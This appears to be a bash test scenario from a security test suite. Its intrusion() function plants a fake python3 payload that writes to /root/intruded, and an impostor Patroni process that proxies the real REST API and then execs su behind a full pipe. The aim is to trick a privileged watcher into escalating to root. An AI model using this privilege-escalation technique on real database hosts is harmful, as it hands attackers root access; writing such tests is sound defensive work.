# set-uid-program: a process with Patroni's command line and a REST API of its own becomes a set-uid program when it was looked at three times
# shellcheck shell=bash

intrusion() {
  local node=$1
  mallorys "$node" python3 <<'PAYLOAD'
#!/bin/sh
id -un >/root/intruded
PAYLOAD
  mallorys "$node" patroni.py <<'PROGRAM'
import fcntl, http.server, json, os, signal, socket, sys, threading, time, urllib.request

REAL = "http://127.0.0.1:8008"
HOME = "/home/mallory/"
OWN = [HOME + "python3", HOME + "patroni.py", HOME + "config.yml"]

if len(sys.argv) == 1:
    os.execv("/usr/bin/python3", OWN)
signal.signal(signal.SIGHUP, lambda *_: None)
looks = threading.Semaphore(0)


def ask(path):
    return urllib.request.urlopen(REAL + path, timeout=3).read()


class Proxy(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        try:
            body = ask(self.path)
        except OSError:
            body = b""
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        if self.path == "/history":
            looks.release()

    def log_message(self, *words):
        pass


def become_set_uid():
    # su complains that there is no such user, into a pipe that is full.
    reading, writing = os.pipe()
    os.set_inheritable(reading, True)
    fcntl.fcntl(writing, fcntl.F_SETFL, os.O_NONBLOCK)
    for size in (4096, 1):
        try:
            while True:
                os.write(writing, b"x" * size)
        except BlockingIOError:
            pass
    fcntl.fcntl(writing, fcntl.F_SETFL, 0)
    os.dup2(writing, 1)
    os.dup2(writing, 2)
    os.execv("/usr/bin/su", OWN)


name = socket.gethostname()
scope = json.loads(ask("/patroni"))["patroni"]["scope"]
own = [each for each in json.loads(ask("/cluster"))["members"] if each["name"] == name][0]
published = own["api_url"].split("/")[2]
with open("config.yml", "w") as file:
    file.write(
        "scope: %s\nnamespace: /service/\nname: %s\n"
        "restapi:\n  listen: 0.0.0.0:8018\n  connect_address: %s\n"
        "postgresql:\n  listen: 0.0.0.0:5432\n  connect_address: %s:5432\n  data_dir: /home/mallory\n"
        "  authentication:\n    replication:\n      username: replicator\n      password: x\n"
        % (scope, name, published, own["host"])
    )
server = http.server.ThreadingHTTPServer(("0.0.0.0", 8018), Proxy)
threading.Thread(target=server.serve_forever, daemon=True).start()
# A report, a fix, and the fix once more under its lock: what follows is the edit.
for _ in range(3):
    looks.acquire()
time.sleep(0.1)
become_set_uid()
PROGRAM
  mallory_runs "$node" patroni.py
  await 60 impostor_answers "$node" || fail "node $node" "mallory's process did not start" "see /home/mallory/log there"
  # Of two that claim to be the member's Patroni, the one that was there first could win.
  take_over "$node" patroni /etc/patroni/config.yml
}
